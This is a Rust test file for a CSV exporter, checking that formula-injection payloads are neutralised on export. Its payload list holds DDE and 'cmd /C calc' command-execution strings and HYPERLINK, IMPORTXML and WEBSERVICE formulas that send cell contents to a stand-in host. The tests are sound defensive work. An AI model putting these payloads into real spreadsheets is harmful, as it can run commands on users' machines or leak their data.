//! CSV that a spreadsheet reads as text.

use crate::common::{read, time, writing};
use claimledger_export::{
    Format,
    digest::{FileDigest, RowDigests},
    manifest::Manifest,
    table::{Cell, Column, Kind, Row},
    text::TextWriter,
    zone::Zone,
};

/// Texts that begin a formula in one spreadsheet or another, by the character that does it.
fn payloads() -> Vec<String> {
    let begins = [
        "=", "+", "-", "@", "\t", "\r", "\0", "\u{ff1d}", "\u{ff0b}", "\u{ff0d}", "\u{ff20}",
        "\u{2212}",
    ];
    let formulas = [
        "1+1",
        "cmd|' /C calc'!A0",
        "HYPERLINK(\"http://192.0.2.1/?x=\"&A1,\"open\")",
        "IMPORTXML(CONCAT(\"http://192.0.2.1/\",A1),\"//a\")",
        "WEBSERVICE(\"http://192.0.2.1/\"&A2)",
        "DDE(\"cmd\";\"/C calc\";\"x\")",
        "SUM(1,1)*cmd|' /C calc'!A0",
        "\"quoted\",=2",
    ];
    let before = ["", " ", "\u{a0}", "\u{feff}", "\u{200b}", "x;", "x\n", "x; ", "x\t"];
    let mut all: Vec<String> = Vec::new();
    for begin in begins {
        for formula in formulas {
            for before in before {
                all.push(format!("{before}{begin}{formula}"));
            }
        }
    }
    all
}

fn text_column() -> Vec<Column> {
    let column = |name: &str, kind| Column { name: name.to_owned(), kind, meaning: String::new() };
    vec![column("a", Kind::Text), column("b", Kind::Text)]
}

fn csv(cell: &str) -> String {
    let writer = TextWriter::new(Format::Csv, text_column(), Zone::default());
    let mut out = Vec::new();
    let row =
        Row { key: String::new(), cells: vec![Cell::from(cell), Cell::from("next")], event: None };
    writer.row(&row, &mut out);
    String::from_utf8(out).unwrap()
}

/// The cells of a row, read as RFC 4180 has it.
fn cells(line: &str) -> Vec<String> {
    let mut cells = vec![String::new()];
    let (mut quoted, mut chars) = (false, line.trim_end_matches('\n').chars().peekable());
    while let Some(c) = chars.next() {
        match c {
            '"' if quoted && chars.peek() == Some(&'"') => {
                chars.next();
                cells.last_mut().unwrap().push('"');
            }
            '"' => quoted = !quoted,
            ',' if !quoted => cells.push(String::new()),
            c => cells.last_mut().unwrap().push(c),
        }
    }
    assert!(!quoted, "{line}");
    cells
}

/// Whether a reader that skips blanks would compute the text.
fn is_formula(text: &str) -> bool {
    let text = text.trim_start_matches([' ', '\u{a0}', '\u{feff}', '\u{200b}', '\n']);
    let full_width = ["\u{ff1d}", "\u{ff0b}", "\u{ff0d}", "\u{ff20}", "\u{2212}"];
    text.starts_with(['=', '+', '-', '@', '\t', '\r', '\0'])
        || full_width.iter().any(|begin| text.starts_with(begin))
}

#[test]
fn no_payload_stays_a_formula() {
    let all = payloads();
    assert!(all.len() >= 200, "{}", all.len());
    for payload in all {
        let line = csv(&payload);
        let read = cells(&line);
        assert_eq!((read.len(), read[1].as_str()), (2, "next"), "{payload:?} → {line:?}");
        assert!(line.starts_with('"'), "an altered cell is quoted: {payload:?} → {line:?}");
        assert_eq!(read[0].replace('\'', ""), payload.replace('\'', ""), "nothing else is altered");
        // Nor where a reader takes a semicolon, a tab or a line break for the end of a cell.
        for separators in [&[][..], &[';'], &['\t'], &['\n', '\r']] {
            for cell in read[0].split(separators).filter(|cell| !cell.is_empty()) {
                assert!(!is_formula(cell), "{payload:?} → {cell:?}");
            }
        }
    }
}

#[test]
fn other_text_stays_as_it_is() {
    for text in ["S1", "p-4KD2", "a-b", "alice@acme.example", "x=1", "a + b", "'=1", "–", "日本"]
    {
        assert_eq!(csv(text), format!("{text},next\n"));
    }
    assert_eq!(csv("a,b \"c\""), "\"a,b \"\"c\"\"\",next\n");
    assert_eq!(csv(" a"), "\" a\",next\n");
}

#[test]
fn rows_have_the_zone_in_each_time_and_lists_in_one_cell() {
    let zone = Zone::parse("+01:00").unwrap();
    let row = Row {
        key: "S1".to_owned(),
        cells: vec![
            Cell::from("S1"),
            Cell::from(time("2026-03-10T23:30:00Z")),
            Cell::from(vec!["pwd".to_owned(), "otp".to_owned()]),
            Cell::Empty,
        ],
        event: None,
    };
    let check = |format, header: &str, expected: &str| {
        let writer = TextWriter::new(format, read().columns, zone);
        let (mut head, mut out) = (Vec::new(), Vec::new());
        writer.header(&mut head);
        writer.row(&row, &mut out);
        assert_eq!(String::from_utf8(head).unwrap(), header);
        assert_eq!(String::from_utf8(out).unwrap(), expected);
    };
    check(
        Format::Csv,
        "session,started_at,factors,decisions\n",
        "S1,2026-03-11T00:30:00+01:00,pwd otp,\n",
    );
    check(
        Format::Jsonl,
        "",
        "{\"session\":\"S1\",\"started_at\":\"2026-03-11T00:30:00+01:00\",\"factors\":[\"pwd\",\
         \"otp\"],\"decisions\":null}\n",
    );
    let manifest = Manifest::new(
        read(),
        &writing(Format::Csv),
        (&FileDigest::default(), RowDigests::default()),
        None,
    );
    assert!(manifest.notes.iter().any(|note| note.starts_with("altered: ")), "{manifest:?}");
}
